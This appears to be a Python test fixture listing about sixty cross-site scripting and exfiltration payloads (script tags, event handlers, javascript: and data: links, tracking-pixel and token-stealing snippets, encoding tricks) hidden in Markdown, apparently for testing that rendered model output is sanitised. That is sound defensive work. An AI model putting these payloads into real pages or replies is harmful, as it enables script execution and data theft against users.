"""Sixty attempts to run a script, or to load something, by way of a model's Markdown."""

from __future__ import annotations

_CALL = "alert(1)"

PAYLOADS: tuple[str, ...] = (
    # Raw HTML
    f"<script>{_CALL}</script>",
    f"<SCRIPT SRC=//127.0.0.1/x.js></SCRIPT>{_CALL}",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<img src=x onerror={_CALL}>",
    f'<img src="x" onerror="{_CALL}" alt="a">',
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{_CALL}"><text x="20" y="20">x</text></a></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}>",
    f'<math href="javascript:{_CALL}">x</math>',
    f'<iframe src="javascript:{_CALL}"></iframe>',
    f'<iframe srcdoc="<script>{_CALL}</script>"></iframe>',
    f'<object data="javascript:{_CALL}"></object>',
    f'<embed src="javascript:{_CALL}">',
    f"<body onload={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<select autofocus onfocus={_CALL}></select>",
    f"<textarea autofocus onfocus={_CALL}></textarea>",
    f"<video><source onerror={_CALL}></video>",
    f"<audio src=x onerror={_CALL}></audio>",
    f"<marquee onstart={_CALL}></marquee>",
    f'<form action="javascript:{_CALL}"><button>x</button></form>',
    f'<button form=f formaction="javascript:{_CALL}">x</button>',
    f'<a href="javascript:{_CALL}">x</a>',
    f'<a href=" &#14; javascript:{_CALL}">x</a>',
    f'<a href="java&#x0A;script:{_CALL}">x</a>',
    '<base href="//127.0.0.1/">',
    '<link rel=stylesheet href="//127.0.0.1/x.css">',
    '<meta http-equiv="refresh" content="0;url=//127.0.0.1/">',
    "<style>@import url(//127.0.0.1/x.css);</style>",
    '<p style="background:url(//127.0.0.1/x)">x</p>',
    f"<template><img src=x onerror={_CALL}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'></noscript>",
    f"<!--><img src=x onerror={_CALL}>-->",
    f"<![CDATA[<img src=x onerror={_CALL}>]]>",
    '<message-stream src="//127.0.0.1/steal"></message-stream>',
    '<div id="latest" hx-get="//127.0.0.1/" hx-trigger="load">x</div>',
    '<form id=csrf><input name="csrfmiddlewaretoken"></form>',
    # Links and images of Markdown
    f"[x](javascript:{_CALL})",
    f"[x](JaVaScRiPt:{_CALL})",
    f"[x](&#106;avascript:{_CALL})",
    f"[x](javascript&colon;{_CALL})",
    f"[x](<java\tscript:{_CALL}>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x](vbscript:{_CALL})",
    '[x](https://example.org/"onmouseover="alert(1))',
    f'[x](https://example.org "t" onclick="{_CALL}")',
    f"[x][r]\n\n[r]: javascript:{_CALL}",
    f"<javascript:{_CALL}>",
    "![x](https://example.org/pixel.png?text=secret)",
    f'![x](x "onerror={_CALL}")',
    f"![{'x' * 20}](javascript:{_CALL})",
    # Code, tables and mathematics
    f'```"><img src=x onerror={_CALL}>\ncode\n```',
    f"```html\n</code></pre><script>{_CALL}</script>\n```",
    f"`</code><script>{_CALL}</script>`",
    f"| a |\n|---|\n| <img src=x onerror={_CALL}> |",
    f"$\\href{{javascript:{_CALL}}}{{x}}$",
    f"$$\\text{{</math><script>{_CALL}</script>}}$$",
)


def hostile_markdown() -> str:
    """Return one reply that holds every payload in a paragraph of its own."""
    parts = [f"Payload {number}:\n\n{text}" for number, text in enumerate(PAYLOADS, start=1)]
    return "\n\n".join([*parts, "The end of the hostile reply."])
